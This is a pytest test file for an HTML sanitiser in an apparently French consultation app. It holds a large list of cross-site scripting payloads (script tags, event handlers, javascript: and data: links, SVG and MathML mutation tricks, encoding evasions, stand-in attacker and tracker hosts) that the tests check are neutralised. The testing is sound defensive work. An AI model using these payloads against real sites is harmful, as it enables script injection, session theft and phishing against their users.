"""The sanitiser: nothing hostile passes, nothing typed is lost, no text however odd takes long."""

import html
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consult.html import PLAIN_TAGS, RICH_ATTRIBUTES, RICH_TAGS, clean_rich, render_plain, render_rich, strip_all

# Our own corpus, by family of attack: scripts, events, addresses, styles, frames, forms, namespaces, encodings,
# mutations (what a second parse would revive), look-alikes of our own markup.
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=/media/a.png onload=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a target=_blank href=https://evil.example rel=opener>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=https://tracker.example/pixel.gif>",
    "<img src=//tracker.example/pixel.gif>",
    "<img src='/\\tracker.example/pixel.gif'>",
    "<img src=/media/a.png srcset='https://tracker.example/p 2x'>",
    "<p style='background:url(https://tracker.example/p)'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=https://tracker.example/a.mp3 autoplay>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<dialog open><form method=dialog></form></dialog>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<select><option></select><img src=x onerror=alert(1)>",
    "<table><td background=javascript:alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=csrf_token name=body class='btn btn-primary' data-live-target=x data-error-summary>x</p>",
    "<a id=contenu href=#x aria-hidden=true role=alert tabindex=0>x</a>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</script>",
    "<img src=x one\x00rror=alert(1)>",
    "<p lang='fr\" onclick=alert(1) x=\"'>x</p>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    'https://exemple.fr/"onmouseover="alert(1)',
    "https://exemple.fr/<script>alert(1)</script>",
    "javascript://exemple.fr/%0aalert(1)",
    "**<img src=x onerror=alert(1)>**",
    "- <script>alert(1)</script>\n- *<b onclick=alert(1)>*",
]


class Auditor(HTMLParser):
    """Notes every tag, attribute and text of a piece of markup, as a browser would meet them."""

    def __init__(self, markup: str):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(f"a comment went through: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration went through: {decl}")

    def handle_pi(self, data):
        raise AssertionError(f"a processing instruction went through: {data}")


def assert_harmless(markup: str, tags: frozenset[str], attributes: dict[str, set[str]]) -> None:
    found = Auditor(markup)
    assert set(found.tags) <= tags
    for tag, name, value in found.attributes:
        assert name in attributes.get(tag, set()) | attributes.get("*", set()) | ({"rel"} if tag == "a" else set())
        if name == "href":
            assert value.split(":", 1)[0].lower() in {"http", "https", "mailto", "tel"} or ":" not in value
        if name == "src":
            assert value.startswith("/")
            assert not value.startswith(("//", "/\\"))


@pytest.mark.parametrize("attack", HOSTILE)
def test_rich_text_keeps_no_hostile_mark_even_after_a_second_parse(attack):
    once = clean_rich(attack)
    assert_harmless(once, RICH_TAGS, RICH_ATTRIBUTES)
    assert clean_rich(once) == once
    assert str(render_rich(attack)) == once


@pytest.mark.parametrize("attack", HOSTILE)
def test_plain_text_shows_hostile_marks_as_the_characters_they_are(attack):
    shown = str(render_plain(attack))
    assert_harmless(shown, PLAIN_TAGS, {"a": {"href"}, "li": {"value"}})
    if "*" not in attack and not attack.startswith("-"):
        assert Auditor(shown).text.split() == attack.replace("\x00", "").split()


@pytest.mark.parametrize("attack", HOSTILE)
def test_stripped_text_shown_on_a_page_is_inert(attack):
    assert Auditor(html.escape(strip_all(attack))).tags == []


MARKS = ["<", ">", "&", '"', "'", "script", "img src=/a onerror=x", "a href=javascript:x", "*", "**", "\n", "- ", "1. "]
SOUP = st.lists(
    st.sampled_from([*MARKS, "> ", "https://a.fr/", "www.a.fr", "(", ")", "/", "\x00", "é", " ", "svg", "=", "p"])
).map("".join)


@given(SOUP)
def test_any_soup_of_marks_comes_out_harmless(soup):
    assert_harmless(str(render_plain(soup)), PLAIN_TAGS, {"a": {"href"}, "li": {"value"}})
    once = clean_rich(soup)
    assert_harmless(once, RICH_TAGS, RICH_ATTRIBUTES)


@given(st.text(alphabet=st.characters(exclude_characters="\x00*-•–>.)", exclude_categories=["Cs", "Cc"])))
def test_every_character_of_a_text_without_formatting_is_shown(text):
    assert "".join(Auditor(str(render_plain(text))).text.split()) == "".join(text.split())


def test_organiser_text_keeps_what_the_editor_makes():
    source = (
        '<h2>Titre</h2><p>Un <strong>mot</strong> en <span lang="en">English</span>.</p><ul><li>a</li></ul>'
        '<table><caption>T</caption><thead><tr><th scope="col">A</th></tr></thead>'
        "<tbody><tr><td>1</td></tr></tbody></table>"
        '<figure><img src="/media/carte.png" alt="Carte" width="3" height="2"><figcaption>Carte</figcaption></figure>'
    )
    assert clean_rich(source) == source


@pytest.mark.parametrize(
    "source", ['src="https://ailleurs.example/a.png"', 'src="//ailleurs.example/a.png"', 'src="data:,x"', 'src=""', ""]
)
def test_nothing_is_left_of_an_image_from_elsewhere(source):
    assert clean_rich(f'<p>Avant <img {source} alt="a > b" width="9"> après</p>') == "<p>Avant  après</p>"
    assert clean_rich(f'<img src="/media/a.png" alt="<img {source.replace(chr(34), "")}>">').count("<img") == 1


def test_links_of_organisers_stay_and_those_of_citizens_give_no_credit():
    assert (
        clean_rich('<a href="https://exemple.fr/">x</a>')
        == '<a href="https://exemple.fr/" rel="noopener noreferrer">x</a>'
    )
    assert 'rel="nofollow noopener noreferrer ugc"' in render_plain("Voir https://exemple.fr/page.")


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("un\ndeux\n\ntrois", "<p>un<br>deux</p><p>trois</p>"),
        ("un\r\ndeux", "<p>un<br>deux</p>"),
        ("**gras** et *penché*", "<p><strong>gras</strong> et <em>penché</em></p>"),
        ("Liste :\n- a\n* b\n• c", "<p>Liste :</p><ul><li>a</li><li>b</li><li>c</li></ul>"),
        ("3. a\n5) b", '<ol><li value="3">a</li><li value="5">b</li></ol>'),
        ("> cité\n> encore\nréponse", "<blockquote><p>cité<br>encore</p></blockquote><p>réponse</p>"),
        ("2*3*4 = 24 et a ** b", "<p>2*3*4 = 24 et a ** b</p>"),
        ("3 < 4 & 5 > 2", "<p>3 &lt; 4 &amp; 5 &gt; 2</p>"),
        ("2026. Une année", "<p>2026. Une année</p>"),
        ("-20 % de trains", "<p>-20 % de trains</p>"),
        ("", ""),
        (None, ""),
    ],
)
def test_light_formatting_of_citizens(typed, shown):
    assert render_plain(typed) == shown


@pytest.mark.parametrize(
    ("typed", "address"),
    [
        ("Voir https://exemple.fr/a?b=1&c=2.", "https://exemple.fr/a?b=1&amp;c=2"),
        ("(https://fr.wikipedia.org/wiki/Paris_(ville))", "https://fr.wikipedia.org/wiki/Paris_(ville)"),
        ("« https://exemple.fr »", "https://exemple.fr"),
        ("www.exemple.fr, puis", "http://www.exemple.fr"),
    ],
)
def test_addresses_become_links_without_the_punctuation_that_follows(typed, address):
    assert f'href="{address}"' in render_plain(typed)


@pytest.mark.parametrize("typed", ["C’est fin.De plus", "moi@exemple.fr", "ftp://exemple.fr/x", "exemple.fr"])
def test_what_is_not_surely_an_address_is_left_alone(typed):
    assert "<a" not in render_plain(typed)


def test_stripping_parts_blocks_and_reads_entities():
    source = "<p>Un</p><p>deux&nbsp;&amp; trois<br>quatre</p><ul><li>a</li><li>b</li></ul><script>non</script>"
    assert strip_all(source) == "Un\ndeux & trois\nquatre\na\nb"
    assert strip_all("3 < 4, et 5 > 2") == "3 < 4, et 5 > 2"
    assert strip_all(None) == ""


@pytest.mark.parametrize(
    "unit",
    [
        "<",
        ">",
        "(",
        "*",
        "**a ",
        "*a ",
        " ",
        "<br",
        "<b>",
        "<blockquote>",
        "&",
        "- a\n\n",
        "https://",
        "www.",
        "> ",
        "</p ",
    ],
)
@pytest.mark.slow  # long texts
@pytest.mark.parametrize("treat", [render_plain, clean_rich, strip_all])
def test_time_grows_no_faster_than_the_text(unit, treat):
    def seconds(length: int) -> float:
        text = unit * (length // len(unit)) + "x"
        best = []
        for _ in range(3):
            begin = time.process_time()
            treat(text)
            best.append(time.process_time() - begin)
        return min(best)

    # Eight times the text: linear is 8, quadratic 64. The floor keeps the clock's grain out of the ratio.
    assert seconds(64_000) <= 30 * max(seconds(8_000), 0.01)
